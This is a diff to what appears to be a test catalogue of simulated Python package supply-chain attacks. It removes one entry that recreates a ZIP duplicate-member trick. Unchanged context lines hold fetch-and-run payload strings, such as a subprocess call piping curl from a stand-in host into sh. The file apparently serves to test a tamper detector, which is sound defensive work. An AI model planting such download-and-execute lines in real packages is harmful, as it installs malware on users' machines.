@@ -54,8 +54,6 @@ import subprocess
 subprocess.Popen("curl -s http://192.0.2.107/r | sh", shell=True)
 """
 
-_CLEAN = f'{COMMENT}"""Nothing of note."""\n\nVALUE = 1\n'
-
 _SHELL_HEAD = f"""#!/bin/sh
 # {MARKER}
 curl -s https://front.example.invalid/a.sh | sh
@@ -147,18 +145,6 @@ ATTACKS: Final[tuple[Attack, ...]] = (
         kind=Kind.WHEEL,
         project="two-text-faces",
         release=Release("0.5.0", library("two_text_faces"), tamper=behind(_SHELL_HEAD)),
-        expects=frozenset({"archive", "metadata"}),
-    ),
-    Attack(
-        name="doubled-member",
-        recreates="the ZIP confusion of CVE-2025-54368 (2025): a module twice, and who unpacks decides which counts",
-        kind=Kind.WHEEL,
-        project="double-text-kit",
-        release=Release(
-            "0.5.1",
-            {**library("double_text_kit"), "double_text_kit/_setup.py": _CLEAN},
-            doubled={"double_text_kit/_setup.py": COMMENT + _DOWNLOAD},
-        ),
         expects=frozenset({"archive", "metadata"}),
     ),
     Attack(
